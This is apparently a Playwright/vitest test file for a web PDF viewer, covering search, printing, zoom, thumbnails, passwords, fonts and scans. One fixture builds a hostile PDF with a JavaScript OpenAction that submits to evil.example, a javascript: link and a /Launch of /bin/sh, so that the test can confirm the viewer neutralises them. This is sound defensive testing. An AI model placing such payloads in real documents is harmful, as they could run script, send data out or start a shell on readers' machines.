import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { rowOf, signIn } from '../kit/browser.ts'
import { fileOfObjects, makePdf } from '../kit/pdf.ts'
import { ann } from '../kit/run-server.ts'
import { makeScannedPdf } from '../kit/scans.ts'
import { atRoot, eventually, expectFocusInside, violationsIn } from './journeys.ts'

const pages = Array.from({ length: 12 }, (_, index) => `Page ${index + 1} of the report`)
const files = {
  '1 scan #?&+.pdf': makePdf({ pages: [...pages.slice(0, 8), 'The harvest was good', ...pages.slice(9)] }),
  '2 hostile.pdf': makePdf({
    pages: ['Hostile'],
    catalogue:
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >> ' +
      '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>',
    annotations: [
      '<< /Type /Annot /Subtype /Link /Rect [20 90 200 120] /A << /S /URI /URI (javascript:top.hacked=1) >> >>',
      '<< /Type /Annot /Subtype /Link /Rect [20 10 200 40] /A << /S /URI /URI (https://example.com/x) >> >>',
      '<< /Type /Annot /Subtype /Link /Rect [20 50 200 80] /A << /S /Launch /F (/bin/sh) >> >>',
    ],
  }),
  '3 damaged.pdf': '%PDF-1.4\nnothing of the kind',
  '4 contents.pdf': makePdf({
    pages,
    outline: [
      ['Sowing', 2],
      ['\tIn spring', 5],
      ['Harvest <b>time</b>', 11],
    ],
  }),
  '5 secret.pdf': makePdf({ pages: ['The secret harvest'], password: 'open sesame' }),
  // Chinese text in the legacy encoding of mainland China. The character map maps the codes to characters.
  '6 chinese.pdf': makePdf({
    pages: ['<d6d0ced4b1e2b5b5>'],
    font:
      '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /GBK-EUC-H /DescendantFonts [<< /Type /Font ' +
      '/Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> ' +
      '/FontDescriptor << /Type /FontDescriptor /FontName /STSong-Light /Flags 6 >> >>] >>',
  }),
  '7 symbols.pdf': makePdf({
    pages: ['abc'],
    font: '<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>',
  }),
  '8 scans.pdf': makeScannedPdf(),
  // One page that the document names so often that the frames of all pages would keep the page busy for half a minute.
  '9 repeated.pdf': fileOfObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count 100000 /Kids [${'3 0 R '.repeat(100_000)}] >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] >>',
  ]),
}

const viewer = (page: Page) => page.locator('[data-part="pdf"]')
const pageOf = (page: Page, number: number) => viewer(page).locator(`[data-page="${number}"]`)
/** Returns the number of different colours in the drawing of a page. */
const coloursOf = (page: Page, number: number) =>
  pageOf(page, number)
    .locator('canvas')
    .evaluate((canvas) => {
      const drawing = canvas as HTMLCanvasElement
      const { data } = drawing.getContext('2d')?.getImageData(0, 0, drawing.width, drawing.height) ?? {
        data: [],
      }
      return new Set(Array.from(data).filter((_, index) => index % 4 === 0)).size
    })

/** Returns the part of the drawing of a page that is black, from 0 to 1. */
const blackPartOf = (page: Page, number: number) =>
  pageOf(page, number)
    .locator('canvas')
    .evaluate((canvas) => {
      const { width, height } = canvas as HTMLCanvasElement
      const drawing =
        (canvas as HTMLCanvasElement).getContext('2d')?.getImageData(0, 0, width, height).data ?? []
      const isBlack = (red: number, index: number) =>
        index % 4 === 0 && red < 64 && drawing[index + 3] === 255
      return Array.from(drawing).filter(isBlack).length / (width * height)
    })

atRoot({ files }, ({ server, window }) => {
  const open = async (name: string, options: Parameters<typeof window>[0] = {}) => {
    const page = await window(options)
    await signIn(page, server(), ann)
    await rowOf(page, name).dblclick()
    return page
  }

  // Journey: pdf-1
  test('a PDF shows its pages with text that can be selected, on wide screens and on phones, where its tools are in one row: the menu, and the search in their place', async () => {
    const page = await open('1 scan #?&+.pdf')
    const line = pageOf(page, 1).getByText('Page 1 of the report')
    await line.waitFor()
    for (const viewport of [
      { width: 1280, height: 800 },
      { width: 390, height: 844 },
    ]) {
      await page.setViewportSize(viewport)
      const rightEdge = async () => {
        const box = await pageOf(page, 1).boundingBox()
        return (box?.x ?? 0) + (box?.width ?? Infinity)
      }
      await eventually(async () => [viewport, (await rightEdge()) <= viewport.width], [viewport, true])
      await eventually(async () => (await coloursOf(page, 1)) > 1, true)
      await page.evaluate(() => getSelection()?.removeAllRanges())
      // The middle of the line may be a gap between two words, which depends on the fonts of the machine.
      await line.dblclick({ position: { x: 3, y: 3 } })
      expect((await page.evaluate(() => getSelection()?.toString() ?? '')).trim()).not.toBe('')
      const frame = await pageOf(page, 1).boundingBox()
      const text = await line.boundingBox()
      // The invisible text lies over the drawn text: 20 of 300 points from the left, and 100 of 200 above the lower
      // edge.
      expect(((text?.x ?? 0) - (frame?.x ?? 0)) / (frame?.width ?? 1)).toBeCloseTo(20 / 300, 1)
      expect(((text?.y ?? 0) - (frame?.y ?? 0)) / (frame?.height ?? 1)).toBeCloseTo(0.43, 1)
      expect([viewport, await violationsIn(page, 'light')]).toEqual([viewport, []])
    }

    const bar = page.getByRole('toolbar')
    /** Returns the number of rows of the tools, and true when all of them are in the window. */
    const layout = () =>
      bar.evaluate((element) => {
        const boxes = [...element.children].map((child) => child.getBoundingClientRect())
        const middles = boxes.map(({ top, bottom }) => Math.round((top + bottom) / 2))
        return { rows: new Set(middles).size, fits: boxes.every(({ right }) => right <= innerWidth) }
      })
    await eventually(layout, { rows: 1, fits: true })
    const wide = await pageOf(page, 1).boundingBox()
    await bar.getByRole('button', { name: 'More' }).click()
    await page.getByRole('menuitem', { name: 'Rotate' }).click()
    const isTall = async () => {
      const box = await pageOf(page, 1).boundingBox()
      return box !== null && box.height > box.width
    }
    expect((wide?.width ?? 0) > (wide?.height ?? 0)).toBe(true)
    await eventually(isTall, true)
    await bar.getByRole('button', { name: 'Search in the document' }).click()
    await page.keyboard.type('report')
    await bar.getByText('1 of 11', { exact: true }).waitFor()
    expect(await layout()).toEqual({ rows: 1, fits: true })
    expect(await violationsIn(page, 'light')).toEqual([])
    await bar.getByRole('button', { name: 'Next match' }).click()
    await bar.getByText('2 of 11', { exact: true }).waitFor()
    await bar.getByRole('button', { name: 'Close search' }).click()
    const field = bar.getByRole('textbox', { name: 'Page number' })
    await field.waitFor()
    await expectFocusInside(page)
    await page.keyboard.press('Control+f')
    await eventually(() => page.evaluate(() => document.activeElement?.getAttribute('type')), 'search')
  })

  // Journey: pdf-2
  test('the search of a PDF finds a word on a far page, far pages are released, all pages are printed, keys zoom, and nothing in a hostile PDF acts', async () => {
    const page = await open('1 scan #?&+.pdf')
    await pageOf(page, 1).locator('canvas').waitFor()
    const frame = await pageOf(page, 1).boundingBox()
    // The pages of this document are 300 points wide, which are 400 pixels at 96 pixels per inch.
    const percent = Math.round(((frame?.width ?? 0) / 400) * 100)
    expect(await page.getByRole('toolbar').getByText('%').innerText()).toBe(`${percent}%`)

    await page.keyboard.press('Control+f')
    await page.keyboard.type('HARVEST')
    await page.getByRole('toolbar').getByText('1 of 1', { exact: true }).waitFor()
    await pageOf(page, 9).locator('canvas').waitFor()
    await eventually(() => page.evaluate(() => CSS.highlights.get('pdf-current-match')?.size), 1)
    const mark = await pageOf(page, 9)
      .getByText('harvest')
      .evaluate((piece) => getComputedStyle(piece, '::highlight(pdf-current-match)').backgroundColor)
    expect(mark).toBe('rgba(255, 138, 0, 0.6)')
    await eventually(() => pageOf(page, 1).locator('canvas').count(), 0)
    await page.keyboard.press('Control+a')
    await page.keyboard.type('report')
    await page.getByRole('toolbar').getByText('1 of 11', { exact: true }).waitFor()
    await page.keyboard.press('Shift+Enter')
    await page.getByRole('toolbar').getByText('11 of 11', { exact: true }).waitFor()
    await page.keyboard.press('Escape')
    const field = page.getByRole('toolbar').getByRole('textbox', { name: 'Page number' })
    await field.fill('3')
    await field.press('Enter')
    await pageOf(page, 3).locator('canvas').waitFor()
    await eventually(() => field.inputValue(), '3')

    await page.evaluate(() => {
      globalThis.print = () => {
        const images = [...document.querySelectorAll<HTMLImageElement>('.printed-pages > img')]
        document.title = `printed ${images.filter(({ naturalWidth }) => naturalWidth > 100).length} pages`
      }
    })
    await page.getByRole('button', { name: 'Print' }).click()
    await eventually(() => page.title(), `printed ${await page.locator('[data-page]').count()} pages`)
    expect(await page.locator('.printed-pages').count()).toBe(0)

    await page.locator('#content').focus()
    const width = async () => (await pageOf(page, 1).boundingBox())?.width ?? 0
    const before = await width()
    await page.keyboard.press('+')
    await eventually(async () => (await width()) > before, true)
    await page.keyboard.press('0')
    await eventually(width, before)
    await page.keyboard.press('ArrowRight')
    await pageOf(page, 1).getByText('Hostile').waitFor()
    const links = pageOf(page, 1).locator('a')
    await eventually(
      () => links.evaluateAll((all) => all.map((link) => link.getAttribute('href'))),
      ['https://example.com/x'],
    )
    expect(await links.getAttribute('rel')).toBe('noopener noreferrer')
    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
    await page.keyboard.press('ArrowRight')
    await page.getByText('Preview is not available for this file.').waitFor()
    await page.getByText('The file seems to be damaged.').waitFor()
  })

  test('the panel shows small pictures of the near pages and the contents, by mouse and by keys', async () => {
    const page = await open('4 contents.pdf')
    const panel = viewer(page).getByRole('complementary', { name: 'Pages and contents' })
    const picture = (number: number) => panel.getByRole('button', { name: `Page ${number}`, exact: true })
    await picture(1).locator('canvas').waitFor()
    expect(await picture(1).getAttribute('aria-current')).toBe('page')
    expect(await panel.locator('button[data-thumbnail]').count()).toBe(12)
    const previous = page.getByRole('button', { name: 'Previous file' })
    /** Returns true when the button to the previous file stands beside the panel. */
    const isBeside = async () => {
      const [box, edge] = [await previous.boundingBox(), await panel.boundingBox()]
      return box !== null && edge !== null && box.x >= edge.x + edge.width
    }
    await eventually(isBeside, true)
    await picture(1).focus()
    await page.keyboard.press('End')
    await picture(12).locator('canvas').waitFor()
    await page.keyboard.press('ArrowUp')
    await page.keyboard.press('Enter')
    await eventually(() => picture(11).getAttribute('aria-current'), 'page')
    await pageOf(page, 11).locator('canvas').waitFor()
    await panel.getByRole('button', { name: 'Contents' }).click()
    await eventually(
      () => panel.locator('ol button').allInnerTexts(),
      ['Sowing', 'In spring', 'Harvest <b>time</b>'],
    )
    await eventually(isBeside, true)
    await panel.getByRole('button', { name: 'In spring' }).click()
    await eventually(
      () => page.getByRole('toolbar').getByRole('textbox', { name: 'Page number' }).inputValue(),
      '5',
    )
    expect(await violationsIn(page, 'dark')).toEqual([])
    await page.reload()
    await panel.getByRole('button', { name: 'Sowing' }).waitFor()
    const toggle = page.getByRole('toolbar').getByRole('button', { name: 'Pages and contents' })
    await toggle.click()
    await panel.waitFor({ state: 'detached' })
    await page.reload()
    await pageOf(page, 1).locator('canvas').waitFor()
    expect(await panel.count()).toBe(0)
    await page.setViewportSize({ width: 390, height: 844 })
    await toggle.click()
    await picture(3).click()
    await panel.waitFor({ state: 'detached' })
    const top = async (number: number) => (await pageOf(page, number).boundingBox())?.y ?? Infinity
    await eventually(async () => (await top(3)) < 300 && (await top(4)) > 300, true)
  })

  test('an encrypted PDF asks for its password, wrong, right and cancelled, fonts that are not embedded are shown with maps and fonts from our own server, and scans with our own decoders', async () => {
    const page = await open('5 secret.pdf')
    const requested = new Set<string>()
    page.on('request', (request) => requested.add(new URL(request.url()).pathname))
    const field = page.getByLabel('Password of the document')
    await field.fill('wrong')
    await field.press('Enter')
    await page.getByText('This is not the password of the document.').waitFor()
    await eventually(() => field.evaluate((element) => element === document.activeElement), true)
    expect(await violationsIn(page, 'light')).toEqual([])
    await field.fill('open sesame')
    await page.getByRole('button', { name: 'Open', exact: true }).click()
    await pageOf(page, 1).getByText('The secret harvest').waitFor()
    await page.reload()
    await field.waitFor()
    await page.getByRole('button', { name: 'Cancel' }).click()
    await page.getByText('Preview is not available for this file.').waitFor()

    await page.keyboard.press('ArrowRight')
    await pageOf(page, 1).getByText('中卧扁档').waitFor()
    await page.keyboard.press('ArrowRight')
    await pageOf(page, 1).getByText('abc').waitFor()
    await eventually(() => [...requested].some((url) => url.endsWith('/pdf/fonts/FoxitDingbats.pfb')), true)
    expect(await coloursOf(page, 1)).toBeGreaterThan(1)

    await page.keyboard.press('ArrowRight')
    await pageOf(page, 3).waitFor()
    for (const number of [1, 2, 3]) {
      await pageOf(page, number).scrollIntoViewIfNeeded()
      await pageOf(page, number).locator('canvas').waitFor()
      // A picture that cannot be decoded leaves its page white.
      const blackPart = await blackPartOf(page, number)
      expect([number, blackPart > 0.6 && blackPart < 0.95]).toEqual([number, true])
    }

    await page.keyboard.press('ArrowRight')
    await page.getByText('Preview is not available for this file.').waitFor()
  })
})
